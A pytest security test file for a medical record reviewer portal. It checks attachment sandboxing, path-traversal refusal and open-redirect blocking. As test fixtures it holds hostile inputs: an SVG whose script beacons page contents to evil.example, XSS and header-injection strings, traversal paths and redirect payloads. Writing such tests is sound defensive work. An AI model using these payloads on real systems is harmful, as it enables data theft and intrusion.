"""The reviewer portal and the service pages against hostile input (security review S1, S4, S8):

- S1: an attachment whose content type would run script on the portal's origin (SVG, HTML, JavaScript, XML,
  unknown) is a download (application/octet-stream, Content-Disposition: attachment), never rendered; the
  safe types (PDF, PNG, JPEG, plain text) stay inline, sandboxed; every response carries nosniff and a CSP.
- S4: a hospital's reviewer API (or whoever sits on a plain-http link to it) that names a package id, case id
  or file outside the portal's work directory, or answers too much, is refused on the page and nothing is
  written; two hospitals naming the same package id stay two Cases; --pull over plain http is refused at start.
- S8: the sign-in pages of the portal and the dashboard go back only to a path on their own site.

Packages are sealed here by hand (no EHR); only the service's pages need the test hospital (sekmet).
"""
from __future__ import annotations

import base64
import hashlib
import io
import os
import re
import stat
import struct
import threading
import time
import uuid
import zlib
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote

import pytest
from flask import Flask, Response, jsonify, request

from fhirbridge.cli import main as cli
from fhirbridge.config import loader as config
from fhirbridge.config.model import PACKAGE_MAPPINGS
from fhirbridge.crypto import jwe, jws
from fhirbridge.crypto.keys import KeyRing
from fhirbridge.errors import ConfigError
from fhirbridge.exchange import envelope
from fhirbridge.exchange.reviewer import write_reviewer_keys
from fhirbridge.ui import reviewer_portal
from fhirbridge.ui.record_view import attachments_of
from fhirbridge.ui.reviewer_portal import PortalSettings, create_portal
from tests.kit.browser import LiveServer, shot
from tests.kit.packages import Site

TOKEN = "portal-security-token-0123456789"
ADMIN = "dashboard-admin-token-0123456789"
CSRF = "csrf-token-for-these-tests-0123"
SVG_WITH_SCRIPT = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/").then(r => r.text())'
                   b'.then(t => navigator.sendBeacon("https://evil.example/", t))</script></svg>')
HTML_WITH_SCRIPT = b"<!doctype html><script>document.title = 'pwned'</script>"


# --- material: keys, a sealed package with attachments ---------------------------------------------------

def tiny_pdf(text: str = "Discharge letter") -> bytes:
    """A valid one-page PDF (Helvetica, one line of text), small enough to write by hand."""
    stream = f"BT /F1 24 Tf 40 100 Td ({text}) Tj ET".encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for i, o in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def tiny_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x1f\x5f\xa8")) + chunk(b"IEND", b""))


# (title, content type, bytes, as a separate file?) - the separate files are what loop/seal.py makes of
# large Binaries (attachments/att-NNN.jwe), the others travel inline in the document as Binary resources.
ATTACHMENTS = [
    ("letter", "application/pdf", tiny_pdf(), True),
    ("scan", "image/svg+xml", SVG_WITH_SCRIPT, True),
    ("xray", "image/png", tiny_png(), False),
    ("photo", "IMAGE/JPEG", b"\xff\xd8\xff\xe0 not really a jpeg", False),
    ("note", "text/plain; charset=iso-8859-1", b"Progress note: walks 200 m without pain.", False),
    ("page", "text/html", HTML_WITH_SCRIPT, False),
    ("code", "application/javascript", b"alert(document.cookie)", False),
    ("data", "application/xml", b"<?xml version='1.0'?><x/>", False),
    ("odd", "application/x-unheard-of", b"\x00\x01", False),
    ('evil"; filename=..\\x.html\r\n', "text/html; charset=utf-8", HTML_WITH_SCRIPT, False),
]


def seal_package(where: Path, site: Site, reviewer_public: KeyRing, *, name: str = "pkg-sec") -> Path:
    """A package as seal.py makes one, with the attachments above (reduced to what the portal reads)."""
    ehr = "https://ehr.example/fhir"
    entries: list[dict] = [
        {"fullUrl": f"{ehr}/Patient/p1", "resource": {"resourceType": "Patient", "id": "p1",
                                                      "name": [{"family": "Testpatient", "given": ["Sec"]}]}},
        {"fullUrl": f"{ehr}/ServiceRequest/sr1", "resource": {
            "resourceType": "ServiceRequest", "id": "sr1", "status": "active", "intent": "order",
            "subject": {"reference": f"{ehr}/Patient/p1"}}}]
    directory = where / name
    (directory / "attachments").mkdir(parents=True)
    files = []
    for n, (title, ctype, data, separate) in enumerate(ATTACHMENTS, 1):
        url = f"Binary/b{n}"
        if separate:
            file = f"attachments/att-{n:03d}.jwe"
            with open(directory / file, "wb") as dst:
                jwe.encrypt_stream(io.BytesIO(data), dst, reviewer_public.encryption_keys(),
                                   typ="fhirbridge-attachment+jwe", cty=ctype)
            files.append({"file": file, "url": url, "content_type": ctype, "title": title, "size": len(data),
                          "sha256": hashlib.sha256(data).hexdigest()})
        else:
            entries.append({"fullUrl": f"{ehr}/{url}", "resource": {
                "resourceType": "Binary", "id": f"b{n}", "contentType": ctype,
                "data": base64.b64encode(data).decode("ascii")}})
        entries.append({"fullUrl": f"{ehr}/DocumentReference/d{n}", "resource": {
            "resourceType": "DocumentReference", "id": f"d{n}", "status": "current",
            "date": f"2024-01-{n:02d}T00:00:00Z", "type": {"text": f"Document {n}"},
            "content": [{"attachment": {"url": url, "contentType": ctype, "title": title}}]}})
    doc = {"resourceType": "Bundle", "identifier": {"system": "urn:ietf:rfc:3986", "value": f"urn:uuid:{uuid.uuid4()}"},
           "type": "document", "timestamp": "2024-01-01T00:00:00Z", "entry": entries}
    iss = {"system": "urn:ietf:rfc:3986", "value": "urn:oid:2.999.7.1", "display": "Hospital A"}
    doc = jws.sign_bundle(doc, site.private, who={"identifier": iss, "display": iss["display"]},
                          when="2024-01-01T00:00:00Z")
    now = int(time.time())
    claims = {"jti": str(uuid.uuid4()), "iat": now, "exp": now + 3600, "iss": iss,
              "aud": {"system": "urn:ietf:rfc:3986", "value": "urn:oid:2.999.7.9", "display": "Reviewer"},
              "case_id": str(uuid.uuid4()), "package_id": name, "service_request": "ServiceRequest/sr1",
              "patient": "Patient/p1", "manifest": {"question": "Is surgery indicated now?", "shared": [],
                                                    "withheld": [], "attachments": files}}
    sealed = envelope.seal(typ=envelope.PACKAGE, claims=claims, document=doc, signer=site.private,
                           recipient=reviewer_public)
    (directory / envelope.ENVELOPE_FILE).write_bytes(sealed)
    return directory


@pytest.fixture
def reviewer(tmp_path):
    files = write_reviewer_keys(tmp_path / "reviewer", None)
    site = Site(tmp_path / "reviewer" / "trusted", "hospital-a")
    return SimpleNamespace(key_file=files["private_keys"], public=KeyRing.load(files["public_keys"]), site=site,
                           trusted=tmp_path / "reviewer" / "trusted", work=tmp_path / "portal")


def settings_for(reviewer, **kw) -> PortalSettings:
    return PortalSettings(key=reviewer.key_file, trust=reviewer.trusted, work_dir=reviewer.work,
                          mappings_dir=PACKAGE_MAPPINGS, token=TOKEN, **kw)


@pytest.fixture
def delivered(reviewer, tmp_path):
    """A portal with one delivered package carrying every kind of attachment, and a signed-in client."""
    seal_package(tmp_path / "packages", reviewer.site, reviewer.public)
    app = create_portal(settings_for(reviewer, packages_dir=tmp_path / "packages"))
    client = app.test_client()
    with client.session_transaction() as s:
        s["reviewer"] = True
    assert client.get("/").status_code == 200            # the inbox finds the delivered package
    portal = app.extensions["portal"]
    index = {a.title: a.index for a, _url in attachments_of(portal.opened("pkg-sec"))}
    return SimpleNamespace(app=app, client=client, index=index)


def sandboxed(resp) -> bool:
    csp = resp.headers.get("Content-Security-Policy", "")
    return "default-src 'none'" in csp and re.search(r"(^|;)\s*sandbox\s*(;|$)", csp) is not None


# --- S1: attachments ----------------------------------------------------------------------------------

@pytest.mark.parametrize("title", ["scan", "page", "code", "data", "odd", 'evil"; filename=..\\x.html\r\n'])
def test_an_attachment_that_could_run_script_is_a_download(delivered, title):
    resp = delivered.client.get(f"/cases/pkg-sec/attachments/{delivered.index[title]}")
    assert resp.status_code == 200
    assert resp.mimetype == "application/octet-stream"
    disposition = resp.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9][A-Za-z0-9._-]*"', disposition), disposition
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert sandboxed(resp), resp.headers.get("Content-Security-Policy")
    assert resp.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize(("title", "served"), [("letter", "application/pdf"), ("xray", "image/png"),
                                               ("photo", "image/jpeg"), ("note", "text/plain; charset=utf-8")])
def test_a_pdf_an_image_or_plain_text_stays_inline_and_sandboxed(delivered, title, served):
    resp = delivered.client.get(f"/cases/pkg-sec/attachments/{delivered.index[title]}")
    assert resp.status_code == 200
    assert resp.headers["Content-Type"] == served
    assert resp.headers["Content-Disposition"].startswith("inline")
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert sandboxed(resp), resp.headers.get("Content-Security-Policy")
    assert resp.data == dict((t, d) for t, _c, d, _s in ATTACHMENTS)[title]


def test_every_portal_response_has_nosniff_and_a_csp(delivered, reviewer):
    c = delivered.client
    anonymous = delivered.app.test_client()
    responses = {
        "inbox": c.get("/"), "case": c.get("/cases/pkg-sec"), "missing case": c.get("/cases/nope"),
        "attachment": c.get(f"/cases/pkg-sec/attachments/{delivered.index['xray']}"),
        "stylesheet": c.get("/ui-static/fhirbridge.css"), "script": c.get("/ui-static/focus.js"),
        "login": anonymous.get("/login"), "to login": anonymous.get("/cases/pkg-sec"),
    }
    for what, resp in responses.items():
        assert resp.headers.get("X-Content-Type-Options") == "nosniff", what
        assert resp.headers.get("Content-Security-Policy"), what
        if resp.mimetype != "text/html":
            assert sandboxed(resp), (what, resp.headers.get("Content-Security-Policy"))


@pytest.mark.sekmet
def test_every_service_response_has_nosniff_and_a_csp(service):
    client = service.app.test_client()
    for path in ("/dashboard/login", "/dashboard/", "/ui-static/fhirbridge.css", "/openapi.json", "/docs",
                 "/healthz", "/.well-known/jwks.json", "/api/cases", "/no-such-page"):
        resp = client.get(path)
        assert resp.headers.get("X-Content-Type-Options") == "nosniff", path
        assert resp.headers.get("Content-Security-Policy"), path
        if resp.mimetype != "text/html":
            assert sandboxed(resp), (path, resp.headers.get("Content-Security-Policy"))


def test_the_case_page_still_shows_its_attachments_and_svg_only_downloads(reviewer, tmp_path, page):
    seal_package(tmp_path / "packages", reviewer.site, reviewer.public)
    live = LiveServer(create_portal(settings_for(reviewer, packages_dir=tmp_path / "packages")))
    try:
        page.goto(live.url + "/")
        page.get_by_label("Portal token").fill(TOKEN)
        page.get_by_role("button", name="Sign in").click()
        page.locator("tbody tr", has_text="Is surgery indicated now?").get_by_role("link").click()
        assert page.get_by_role("heading", level=1).inner_text().startswith("Second opinion requested:")
        assert "walks 200 m" in page.locator("pre.note").first.inner_text()    # plain text, in the page
        page.locator("summary", has_text="application/pdf").first.click()
        frame = page.locator("iframe.doc").first
        assert frame.is_visible()
        # The PDF is served with `sandbox`: Chromium's viewer still opens it inside the frame.
        deadline = time.time() + 10
        while time.time() < deadline and not any(f.url.startswith("chrome-extension://") for f in page.frames):
            page.wait_for_timeout(200)
        assert any(f.url.startswith("chrome-extension://") for f in page.frames), [f.url for f in page.frames]
        page.wait_for_timeout(2000)                                             # let it draw the page
        shot(page, "reviewer-security-case-attachments")
        page.locator("summary", has_text="image/svg+xml").first.click()
        with page.expect_download() as download:
            page.get_by_role("link", name="Open scan in its own tab").click()
        assert download.value.suggested_filename == "scan.svg"
        assert page.title() != "pwned"
    finally:
        live.close()


# --- S4: pulling from a hospital's reviewer API -----------------------------------------------------------

class FakeHospital:
    """A hospital's reviewer API that answers what the test says: the listing, and any file asked for."""

    def __init__(self, listing, files: dict[str, bytes] | None = None):
        self.listing, self.files, self.fetched = listing, files or {}, []
        self.lock = threading.Lock()
        app = Flask("fake-hospital")

        @app.get("/reviewer/cases")
        def cases():
            if isinstance(self.listing, bytes):
                return Response(self.listing, mimetype="application/json")
            return jsonify(self.listing)

        @app.get("/reviewer/follow-ups")
        def follow_ups():                   # a listing like /cases, polled beside it; none open here
            return jsonify({"follow_ups": []})

        @app.get("/<path:anything>")
        def file(anything):
            with self.lock:
                self.fetched.append(request.path)
            name = anything.split("/package/", 1)[-1]
            return Response(self.files.get(name, b"sealed bytes of " + name.encode()),
                            mimetype="application/jose+json")

        self.server = LiveServer(app)
        self.api = f"{self.server.url}/reviewer"

    def close(self):
        self.server.close()


@pytest.fixture
def hospitals():
    made: list[FakeHospital] = []

    def make(listing, files=None) -> FakeHospital:
        made.append(FakeHospital(listing, files))
        return made[-1]
    yield make
    for h in made:
        h.close()


def pulling_portal(reviewer, *apis):
    app = create_portal(settings_for(reviewer, pull=list(apis), issuer="urn:oid:2.999.7.9"))
    client = app.test_client()
    with client.session_transaction() as s:
        s["reviewer"] = True
    return app, client


def written(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file())


HOSTILE_ENTRIES = [
    pytest.param({"id": "case-1", "package_id": "../../escaped", "files": ["package.jwe"]}, id="package-id-dotdot"),
    pytest.param({"id": "case-1", "package_id": "{abs}", "files": ["package.jwe"]}, id="package-id-absolute"),
    pytest.param({"id": "case-1", "package_id": "pkg/../../../escaped", "files": ["package.jwe"]},
                 id="package-id-slash"),
    pytest.param({"id": "../../admin", "package_id": "pkg-1", "files": ["package.jwe"]}, id="case-id-dotdot"),
    pytest.param({"id": "case-1", "package_id": "pkg-1", "files": ["../../../escaped.jwe"]}, id="file-dotdot"),
    pytest.param({"id": "case-1", "package_id": "pkg-1", "files": ["{abs}/package.jwe"]}, id="file-absolute"),
    pytest.param({"id": "case-1", "package_id": "pkg-1", "files": ["attachments\\..\\..\\escaped.jwe"]},
                 id="file-backslash"),
    pytest.param({"id": "case-1", "package_id": "pkg-1", "files": ["package.jwe", "notes.html"]},
                 id="file-not-a-package-file"),
    pytest.param({"id": "case-1", "package_id": "pkg-1", "files": ["attachments/../package.jwe"]},
                 id="file-dotdot-inside"),
]


@pytest.mark.parametrize("entry", HOSTILE_ENTRIES)
def test_a_hospital_naming_paths_outside_the_work_dir_is_refused(reviewer, hospitals, tmp_path, entry):
    outside = tmp_path / "abs-escaped"
    entry = {k: (v.replace("{abs}", str(outside)) if isinstance(v, str) else
                 [f.replace("{abs}", str(outside)) for f in v]) for k, v in entry.items()}
    h = hospitals({"cases": [entry]})
    app, client = pulling_portal(reviewer, h.api)
    before = set(written(tmp_path))
    page = client.get("/").get_data(as_text=True)
    assert "refused a case from" in page, page
    assert set(written(tmp_path)) == before                     # nothing written, inside the work dir or out
    assert h.fetched == []                                      # nothing even fetched for it
    assert not (tmp_path / "escaped").exists() and not outside.exists()
    assert app.extensions["portal"].cases == {}


def test_a_good_case_is_still_pulled_beside_a_refused_one(reviewer, hospitals):
    h = hospitals({"cases": [{"id": "case-1", "package_id": "../x", "files": ["package.jwe"]},
                             {"id": "case-2", "package_id": "pkg-2", "files": ["package.jwe",
                                                                               "attachments/att-001.jwe"]}]})
    app, client = pulling_portal(reviewer, h.api)
    page = client.get("/").get_data(as_text=True)
    assert "refused a case from" in page
    assert sorted(p.relative_to(reviewer.work).parts[-2:] for p in written(reviewer.work / "pulled")) == [
        ("attachments", "att-001.jwe"), ("pkg-2", "package.jwe")]
    assert [pc.package_id for pc in app.extensions["portal"].cases.values()] == ["pkg-2"]


def test_two_hospitals_naming_the_same_package_id_stay_two_cases(reviewer, hospitals):
    a = hospitals({"cases": [{"id": "case-a", "package_id": "same-id", "files": ["package.jwe"]}]},
                  {"package.jwe": b"from hospital A"})
    b = hospitals({"cases": [{"id": "case-b", "package_id": "same-id", "files": ["package.jwe"]}]},
                  {"package.jwe": b"from hospital B"})
    app, client = pulling_portal(reviewer, a.api, b.api)
    client.get("/")
    cases = app.extensions["portal"].cases
    assert {(pc.api, pc.case_id) for pc in cases.values()} == {(a.api, "case-a"), (b.api, "case-b")}
    assert sorted(p.read_bytes() for p in written(reviewer.work / "pulled")) == [b"from hospital A",
                                                                                 b"from hospital B"]
    assert len({pc.directory for pc in cases.values()}) == 2
    for key in cases:                                           # each has a page of its own (that cannot open)
        assert client.get(f"/cases/{key}").status_code in (200, 422)


def test_an_oversized_listing_or_package_file_is_refused(reviewer, hospitals, monkeypatch):
    huge = b'{"cases": [], "pad": "' + b"x" * (1024 * 1024) + b'"}'
    h = hospitals(huge)
    _app, client = pulling_portal(reviewer, h.api)
    assert "larger than" in client.get("/").get_data(as_text=True)

    monkeypatch.setattr(reviewer_portal, "MAX_PACKAGE_FILE", 1000)
    h2 = hospitals({"cases": [{"id": "case-1", "package_id": "pkg-1", "files": ["package.jwe"]}]},
                   {"package.jwe": b"x" * 1001})
    _app, client = pulling_portal(reviewer, h2.api)
    assert "larger than" in client.get("/").get_data(as_text=True)
    assert written(reviewer.work / "pulled") == []               # not even a partial file is left


def test_pulled_packages_are_private_whatever_the_umask(reviewer, hospitals):
    """Issue 13, S11: a pulled package is a patient's record. Under umask 0 (nothing masked) every folder the
    portal makes is 0700 and every file 0600; a work folder an older version left 0755 is narrowed."""
    reviewer.work.mkdir()
    os.chmod(reviewer.work, 0o755)
    h = hospitals({"cases": [{"id": "case-1", "package_id": "pkg-1",
                              "files": ["package.jwe", "attachments/att-001.jwe"]}]})
    old = os.umask(0o000)
    try:
        _app, client = pulling_portal(reviewer, h.api)
        client.get("/")
    finally:
        os.umask(old)
    pulled = written(reviewer.work / "pulled")
    assert sorted(p.name for p in pulled) == ["att-001.jwe", "package.jwe"]
    for p in [reviewer.work, *reviewer.work.rglob("*")]:
        assert stat.S_IMODE(p.lstat().st_mode) == (0o700 if p.is_dir() else 0o600), p


@pytest.mark.parametrize("url", ["http://hospital.example/reviewer", "http://127.0.0.1.evil.example/reviewer",
                                 "http://127.0.0.1@evil.example/reviewer", "ftp://hospital.example/reviewer",
                                 "hospital.example/reviewer"])
def test_a_plain_http_pull_url_is_refused_at_start(reviewer, url):
    with pytest.raises(ConfigError, match="https"):
        create_portal(settings_for(reviewer, pull=[url], issuer="urn:oid:2.999.7.9"))


@pytest.mark.parametrize("url", ["https://hospital.example/reviewer", "http://127.0.0.1:9/reviewer",
                                 "http://localhost:9/reviewer", "http://[::1]:9/reviewer"])
def test_https_or_a_loopback_pull_url_is_accepted(reviewer, url):
    create_portal(settings_for(reviewer, pull=[url], issuer="urn:oid:2.999.7.9"))


def test_the_cli_refuses_a_plain_http_pull_url_with_exit_code_2(reviewer, monkeypatch, capsys):
    monkeypatch.setenv("FHIRBRIDGE_PORTAL_TOKEN", TOKEN)

    def no_server(*_a, **_kw):
        raise AssertionError("the portal started serving with a plain-http pull URL")
    monkeypatch.setattr("fhirbridge.cli.reviewer.make_server", no_server)
    code = cli.main(["reviewer", "serve", "--key", str(reviewer.key_file), "--trust", str(reviewer.trusted),
                     "--work", str(reviewer.work), "--pull", "http://hospital.example/reviewer",
                     "--issuer", "urn:oid:2.999.7.9"])
    assert code == 2
    err = capsys.readouterr().err
    assert "--pull" in err and "https" in err


# --- S8: where sign-in goes back to -----------------------------------------------------------------------

# Values as the application reads them (request.args decodes the query once); each is sent percent-encoded.
HOSTILE_NEXT = ["//evil.example/", "/\\evil.example/", "\\\\evil.example/", "/\t/evil.example/", "/%09/evil.example/",
                "https://evil.example/", "/%2F%2Fevil.example/", "/%2f%5cevil.example/", "javascript:alert(1)",
                "/ok\n//evil.example/", "/ok\r\nSet-Cookie: x=1", " /evil.example", "/x\u2028y", "evil.example"]


def sign_in(client, path: str, next_value: str, token: str):
    with client.session_transaction() as s:
        s["_csrf"] = CSRF
    return client.post(f"{path}?next={quote(next_value, safe='')}", data={"token": token, "csrf_token": CSRF})


@pytest.mark.parametrize("next_value", HOSTILE_NEXT)
def test_portal_sign_in_never_redirects_off_site(reviewer, next_value):
    client = create_portal(settings_for(reviewer)).test_client()
    resp = sign_in(client, "/login", next_value, TOKEN)
    assert resp.status_code == 302
    assert resp.headers["Location"] == "/"


def test_portal_sign_in_goes_back_to_the_page_asked_for(reviewer):
    client = create_portal(settings_for(reviewer)).test_client()
    resp = sign_in(client, "/login", "/cases/pkg-1", TOKEN)
    assert resp.status_code == 302 and resp.headers["Location"] == "/cases/pkg-1"


@pytest.fixture
def service(hospital):
    """The hospital's service (dashboard, API, docs) with an admin token, as a test client's app."""
    from fhirbridge.service.app import create_app
    from fhirbridge.service.scheduler import Service
    hospital.config_path.write_text(hospital.config_path.read_text() + f'\n[api]\ntokens = ["{ADMIN}"]\n')
    svc = Service(config.load(hospital.config_path))
    yield SimpleNamespace(app=create_app(svc=svc), svc=svc)
    svc.stop(wait=True)


@pytest.mark.sekmet
def test_dashboard_sign_in_never_redirects_off_site(service):
    client = service.app.test_client()
    for next_value in [*HOSTILE_NEXT, "/dashboard/\t/evil.example/", "/dashboard\n//evil.example/",
                       "/dashboardevil", "/physician/x"]:
        resp = sign_in(client, "/dashboard/login", next_value, ADMIN)
        assert resp.status_code == 302, next_value
        assert resp.headers["Location"] == "/dashboard/", next_value
    resp = sign_in(client, "/dashboard/login", "/dashboard/cases/abc", ADMIN)
    assert resp.headers["Location"] == "/dashboard/cases/abc"
